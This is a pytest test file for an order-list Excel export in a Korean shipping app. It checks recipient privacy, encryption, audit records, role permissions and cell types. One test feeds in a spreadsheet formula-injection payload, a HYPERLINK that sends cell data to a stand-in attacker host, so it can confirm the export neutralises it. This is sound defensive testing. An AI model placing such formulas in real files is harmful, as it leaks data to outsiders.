"""The order list as an Excel file (주문 내역 엑셀): the list's own filters choose the orders;
without the recipients' columns the file names no one and is recorded as an export; with
them it needs a reason and a password, is encrypted, and every recipient in it is on
record (one whose correction or deletion is pending is left out: tests/compliance/
test_c6_03_order_list_export.py)."""

from __future__ import annotations

import io
import zipfile

import pytest

from jikim.audit.models import AccessRecord
from jikim.shipping.models import Order, Party, Shipment
from jikim.shipping.outbound import orderlist
from tests.shipping import marketplace_files as files
from tests.shipping.test_files_out import OLE_MAGIC, as_dicts, decrypt, imported, read_book

pytestmark = pytest.mark.django_db
PASSWORD = "정산-pass-2026"


def _post(client, **data):
    return client.post("/t/alice/files/orders/", data)


def test_without_recipients_the_file_names_no_one(alice, login) -> None:
    imported(alice)
    response = _post(login(alice))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    data = response.content
    assert zipfile.is_zipfile(io.BytesIO(data)), "no password asked: a plain workbook"
    names, sheet = read_book(data)
    assert names == ["주문내역"] and sheet[0] == list(orderlist.HEADERS)
    rows = as_dicts(sheet)
    assert len(rows) == Order.objects.filter(tenant__slug="alice").count() == len(files.PEOPLE)
    tracked = Shipment.objects.exclude(tracking_no="").select_related("order").get()
    row = {r["상품주문번호"]: r for r in rows}[tracked.order.product_order_no]
    assert row["송장번호"] == tracked.tracking_no and row["판매처"] == "네이버 스마트스토어"
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        text = "".join(book.read(n).decode() for n in book.namelist() if n.endswith(".xml"))
    for person in files.PEOPLE:
        assert person.name not in text and person.phone not in text
    record = AccessRecord.objects.get(action="export")
    assert record.subjects == [] and record.detail["personal_data"] is False
    assert record.detail["rows"] == len(rows)


def test_with_recipients_a_reason_and_a_password_are_needed(alice, login) -> None:
    imported(alice)
    client = login(alice)
    page = _post(client, with_recipients="on", password=PASSWORD).content.decode()
    assert "내려받는 사유를 입력하세요" in page
    page = _post(
        client, with_recipients="on", reason="정산 대조", password="12345"
    ).content.decode()
    assert "6자 이상" in page and "12345" not in page
    assert not AccessRecord.objects.filter(action__in=["download", "export"]).exists()


def test_with_recipients_the_file_is_encrypted_and_every_recipient_recorded(alice, login) -> None:
    imported(alice)
    data = _post(
        login(alice), with_recipients="on", reason="반품 정산 대조", password=PASSWORD
    ).content
    assert data[:8] == OLE_MAGIC
    for person in files.PEOPLE:
        assert person.name.encode() not in data and person.name.encode("utf-16-le") not in data
    _, sheet = read_book(decrypt(data, PASSWORD))
    rows = as_dicts(sheet)
    assert {r["수취인명"] for r in rows} == {p.name for p in files.PEOPLE}
    record = AccessRecord.objects.get(action="download")
    assert record.reason == "반품 정산 대조" and record.actor_id == alice.pk
    recipients = Party.objects.filter(tenant__slug="alice", role="recipient")
    assert record.subjects == sorted(p.subject for p in recipients)
    assert PASSWORD not in repr(list(AccessRecord.objects.values_list("reason", "detail")))


def test_the_order_lists_filters_choose_the_orders(alice, login) -> None:
    imported(alice)
    client = login(alice)
    listing = client.get("/t/alice/orders/?ship=waiting").content.decode()
    assert 'href="/t/alice/files/orders/?ship=waiting"' in listing
    form = client.get("/t/alice/files/orders/?ship=waiting").content.decode()
    untracked = Order.objects.filter(tenant__slug="alice").exclude(shipment__tracking_no__gt="")
    assert f"지금 고른 조건의 주문 {untracked.count()}건" in form
    assert '<option value="waiting" selected>' in form
    rows = as_dicts(read_book(_post(client, ship="waiting").content)[1])
    assert sorted(r["상품주문번호"] for r in rows) == sorted(o.product_order_no for o in untracked)
    page = _post(client, market="coupang").content.decode()
    assert "조건에 맞는 주문이 없습니다" in page


def test_formula_injection_is_neutralised(alice, login) -> None:
    rows = files.smartstore_rows()
    rows[0]["상품명"] = '=HYPERLINK("http://evil.example/?x="&A1,"쿠폰")'
    data = files.xlsx(files.SMARTSTORE_V2, rows, above=[[files.SMARTSTORE_INSTRUCTION]],
                      sheet_name="발주발송관리")  # fmt: skip
    imported(alice, data)
    book = _post(login(alice)).content
    sheet = read_book(book)[1]
    assert "'" + rows[0]["상품명"] in [cell for row in sheet for cell in row]
    with zipfile.ZipFile(io.BytesIO(book)) as opened:
        xml = opened.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_only_roles_that_export_may_download(alice, charlie, staff_of_alice, login) -> None:
    imported(alice)
    assert login(staff_of_alice("manager")).get("/t/alice/files/orders/").status_code == 200
    assert login(staff_of_alice("cs_agent")).get("/t/alice/files/orders/").status_code == 403
    assert _post(login(staff_of_alice("viewer"))).status_code == 403
    assert login(charlie).get("/t/alice/files/orders/").status_code == 404
    assert _post(login(charlie)).status_code == 404
    assert not AccessRecord.objects.filter(action__in=["download", "export"]).exists()


def test_quantities_amounts_and_moments_are_numbers_and_dates_in_excel(alice, login) -> None:
    """A seller sums the amounts and sorts by the order's time: those cells are an Excel
    number and an Excel date (Korean time), not text; numbers stay text where a leading
    zero matters (order and tracking numbers)."""
    import datetime as dt
    from zoneinfo import ZoneInfo

    from python_calamine import CalamineWorkbook

    imported(alice)
    order = Order.objects.filter(tenant__slug="alice").exclude(amount=None).first()
    assert order is not None and order.ordered_at is not None
    data = _post(login(alice)).content
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    sheet = book.get_sheet_by_name("주문내역").to_python(skip_empty_area=False)
    header = sheet[0]
    row = {r[header.index("상품주문번호")]: dict(zip(header, r, strict=True)) for r in sheet[1:]}[
        order.product_order_no
    ]
    assert row["수량"] == order.quantity and isinstance(row["수량"], int | float)
    assert row["금액"] == order.amount and isinstance(row["금액"], int | float)
    seoul = order.ordered_at.astimezone(ZoneInfo("Asia/Seoul")).replace(
        tzinfo=None, second=0, microsecond=0
    )
    assert row["주문일시"] == seoul and isinstance(row["주문일시"], dt.datetime)
    assert isinstance(row["주문번호"], str) and isinstance(row["상품주문번호"], str)
    with zipfile.ZipFile(io.BytesIO(data)) as zipped:
        styles = zipped.read("xl/styles.xml").decode()
    assert "#,##0" in styles and "yyyy-mm-dd hh:mm" in styles
